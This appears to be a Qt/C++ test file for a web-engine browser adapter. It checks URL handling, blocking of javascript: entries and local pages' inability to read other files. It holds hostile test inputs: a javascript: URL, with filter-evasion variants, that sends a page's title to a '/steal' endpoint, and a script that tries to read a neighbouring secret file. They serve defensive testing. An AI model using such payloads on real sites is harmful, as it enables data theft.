#include "browse/engine_on_demand_browser.h"
#include "browse/webengine/url_from_user_text.h"
#include "browse/webengine/webengine_browser.h"
#include "support/page_server.h"
#include "support/webengine_test_main.h"

#include <QSignalSpy>
#include <QWebEngineView>

// The browser adapter on the real engine: what it makes of an entry, when an entry's
// page counts as come, what a page may reach, and a window without its engine plugin.
class BrowserEngine : public QObject {
    Q_OBJECT

private slots:
    // A load that fails still ends the entry's wait for its page.
    void documentCompleteFollowsAFailedLoad()
    {
        WebEngineBrowser browser;
        browser.setSilent(true);
        QSignalSpy completed(&browser, &WebBrowser::DocumentComplete);
        browser.Navigate("/nonexistent/page.html");
        QTRY_COMPARE_WITH_TIMEOUT(completed.size(), 1, 20000);
    }

    void localPathsAndBareHostsBecomeUrls()
    {
        const std::pair<const char*, const char*> typed[]
            = {{"example.com", "http://example.com"},
               {"/opt/my pages/a.html", "file:///opt/my pages/a.html"},
               {"https://h/p?a=1&b", "https://h/p?a=1&b"},
               {"/opt/a.html?202435789#top", "file:///opt/a.html?202435789#top"},
               {"", "about:blank"}};
        for (const auto& [text, url] : typed)
            QCOMPARE(urlFromUserText(text, "/tmp").toString(QUrl::PrettyDecoded), url);
    }

    // An entry that is a script would run inside the page on screen and could send what
    // it shows anywhere: a card says what it is, nothing runs and nothing is asked.
    void scriptEntryGetsACardAndRunsNothing()
    {
        PageServer server;
        QVERIFY(server.listen());
        QTemporaryDir folder;
        QFile local(folder.filePath("local.html"));
        QVERIFY(local.open(QIODevice::WriteOnly) && local.write("<title>local</title><p>private") > 0);
        local.close();
        const QString steal = "location='" + server.url("/steal?t=") + "'+encodeURIComponent(document.title)//?2024";
        WebEngineBrowser browser;
        browser.show();
        QSignalSpy completed(&browser, &WebBrowser::DocumentComplete), cards(&browser, &WebBrowser::cardShown);
        for (const QString scheme : {"javascript:", "JavaScript:", " javascript:", "java\tscript:"}) {
            browser.Navigate(local.fileName());
            QTRY_VERIFY_WITH_TIMEOUT(completed.size() == 1 && !browser.isShowingCard(), 20000);
            browser.Navigate(scheme + steal);
            QTRY_VERIFY_WITH_TIMEOUT(completed.size() == 2 && browser.isShowingCard(), 20000);
            QVERIFY2(cards.last().first().toString().contains("script"), qPrintable(scheme));
            completed.clear();
        }
        // Had a script run, its request would have come before this page's.
        server.addPage("/after.html", "<title>after</title>");
        browser.Navigate(server.url("/after.html"));
        QTRY_VERIFY_WITH_TIMEOUT(browser.view()->title() == "after" && !browser.isShowingCard(), 20000);
        QCOMPARE(server.paths(), QStringList{"/after.html"});
        QCOMPARE(cards.last().first().toString(), QString());
    }

    // A playlist's local page reads no other file. The program's own pages, in a folder
    // whose name holds '#' and '?', show with their pictures.
    void localPageReadsNoOtherFile()
    {
        QTemporaryDir folder;
        QFile secret(folder.filePath("secret.txt"));
        QVERIFY(secret.open(QIODevice::WriteOnly) && secret.write("secret") == 6);
        const QByteArray page = R"html(<script>
            const said = [], say = (what) => { said.push(what); document.title = said.sort().join(' '); };
            const read = new XMLHttpRequest();
            read.onload = () => say('read ' + read.responseText);
            read.onerror = () => say('refused');
            try { read.open('GET', '../secret.txt'); read.send(); } catch (e) { say('refused'); }
            </script><img src="picture.svg" onload="say('picture')" onerror="say('no picture')">)html";
        for (const QString place : {"list", "help #1 ?"}) {
            QFile html(folder.filePath(place + "/page.html")), picture(folder.filePath(place + "/picture.svg"));
            QVERIFY(QDir(folder.path()).mkdir(place) && html.open(QIODevice::WriteOnly) && html.write(page) > 0
                    && picture.open(QIODevice::WriteOnly)
                    && picture.write("<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>") > 0);
        }
        WebEngineBrowser browser;
        browser.Navigate(folder.filePath("list/page.html"));
        QTRY_VERIFY_WITH_TIMEOUT(browser.view()->title().endsWith("refused"), 20000);
        browser.NavigateToFile(folder.filePath("help #1 ?/page.html"));
        QTRY_VERIFY_WITH_TIMEOUT(browser.view()->title().startsWith("picture"), 20000);
    }

    void missingEnginePluginLeavesTheWindowWorking()
    {
        EngineOnDemandBrowser browser("/nonexistent/veltrase-webengine.so");
        QSignalSpy completed(&browser, &WebBrowser::DocumentComplete);
        browser.setSilent(true);
        browser.Navigate("data:text/html,<p>one");
        browser.Stop();
        QCoreApplication::processEvents();
        QVERIFY(completed.isEmpty() && browser.findChildren<QWidget*>().isEmpty());
    }
};

VELTRASE_WEBENGINE_TEST_MAIN(BrowserEngine)
#include "tst_browser_engine.moc"
